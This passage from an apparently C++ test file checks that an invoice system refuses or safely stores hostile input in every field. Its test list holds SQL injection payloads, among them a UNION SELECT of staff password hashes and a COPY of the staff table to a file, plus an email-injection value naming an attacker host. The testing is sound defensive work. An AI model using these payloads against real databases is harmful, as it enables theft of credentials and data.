        "a@b",
        "a@b.",
        "@example.com",
        "x@y.z, evil@attacker.example",
        "user@例子.中国",
        "' OR ''='",
        "admin'--",
        "1' UNION SELECT password_hash FROM staff--",
        "; COPY staff TO '/tmp/x'",
        "\\'; --",
        "Ｆｕｌｌｗｉｄｔｈ",
        "١٢٣ Arabic digits",
        "עברית",
        "ÅÅÅ" + std::string(150, 'z'),
    };
    for (int c = 0; c < 0x20; ++c)
        hostile.push_back("ctl" + std::string(1, static_cast<char>(c)) + "x");
    REQUIRE(hostile.size() >= 100);

    using Field = std::string fees::InvoiceInput::*;
    const std::vector<std::pair<std::string, Field>> fields = {
        {"buyer_name", &fees::InvoiceInput::buyerName},
        {"buyer_taxpayer_id", &fees::InvoiceInput::buyerTaxpayerId},
        {"address_phone", &fees::InvoiceInput::addressPhone},
        {"bank_account", &fees::InvoiceInput::bankAccount},
        {"delivery_email", &fees::InvoiceInput::deliveryEmail},
        {"delivery_mobile", &fees::InvoiceInput::deliveryMobile},
        {"buyer_kind", &fees::InvoiceInput::buyerKind},
    };
    const auto q = f.quote("tianjin-2018", "REPLACE");
    int stored = 0, refused = 0;
    for (const auto& [column, member] : fields) {
        for (const auto& text : hostile) {
            INFO("field " << column << ", value of " << text.size() << " bytes");
            auto invoice = goodInvoice();
            invoice.*member = text;
            const auto problems = fees::checkInvoice(invoice, kToday);
            const long long t = f.makeTransaction();
            if (!problems.empty()) {
                for (const auto& p : problems)
                    CHECK(p.english().size() > 10);
                CHECK_THROWS_AS(f.record(t, q, {{fees::PaymentMethod::Cash, 2600, ""}}, invoice),
                                fees::FeeError);
                CHECK(f.count("SELECT count(*) FROM invoice_requests WHERE transaction_id = $1", t) == 0);
                ++refused;
                continue;
            }
            f.record(t, q, {{fees::PaymentMethod::Cash, 2600, ""}}, invoice);
            pqxx::read_transaction tx{*f.conn};
            // Column names are fixed above, never input.
            const auto row = tx.exec_params1(
                "SELECT coalesce(" + column + ", '') FROM invoice_requests WHERE transaction_id = $1", t);
            std::string expected = text;
            if (column == "buyer_taxpayer_id")
                expected = checkTaxpayerId(text, kToday).normalised; // stored normalised, as documented
            else if (column != "buyer_name" && column != "buyer_kind" &&
                     text.find_first_not_of(" \t") == std::string::npos)
                expected.clear(); // a blank optional field is stored as absent
            CHECK(row[0].as<std::string>() == expected);
            ++stored;
        }
    }
    CHECK(refused > 100);
    CHECK(stored > 100);
    // The schema is still there and nothing was executed.
    CHECK(f.count("SELECT count(*) FROM staff WHERE id = $1", f.op) == 1);
    // Through JSON: invalid UTF-8 and unknown keys are refused before anything is checked.
    CHECK_THROWS_AS(fees::parseInvoiceJson("{\"buyer_name\": \"a\xC0\xAF\"}"), fees::FeeError);
    const auto viaJson = fees::parseInvoiceJson(R"({"buyer_name": "nul\u0000byte"})");
    auto invoice = goodInvoice();
    invoice.buyerName = viaJson.buyerName;
    CHECK(anyContains(fees::checkInvoice(invoice, kToday), "control character"));
}
